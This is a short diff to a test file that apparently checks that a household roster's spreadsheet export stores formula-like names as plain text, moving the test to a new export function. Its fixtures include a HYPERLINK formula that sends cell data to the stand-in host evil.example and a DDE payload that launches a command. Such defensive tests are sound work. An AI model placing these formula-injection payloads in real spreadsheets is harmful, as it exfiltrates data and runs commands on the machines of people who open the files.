@@ -13,9 +13,8 @@ from openpyxl import load_workbook
 
 from app.services import volunteer_roster, volunteers
 from app.services.households import HouseholdData, HouseholdFilter, MemberData, create_household
-from app.services.roster_import import write_xlsx
+from app.services.roster_import import export_households_xlsx, write_xlsx
 from app.services.volunteers import VolunteerData
-from app.views.households_page import export_households
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 DDE = '=cmd|" /C calc"!A0'
@@ -63,7 +62,7 @@ def test_household_export_writes_formula_like_names_and_addresses_as_text(
             MemberData(name=name),
         )
     path = tmp_path / "户籍.xlsx"
-    assert export_households(db, HouseholdFilter(), path) == len(HOSTILE)
+    assert export_households_xlsx(db, HouseholdFilter(), path) == len(HOSTILE)
     _assert_text_cells(path, [*HOSTILE, "@组"])
 
 
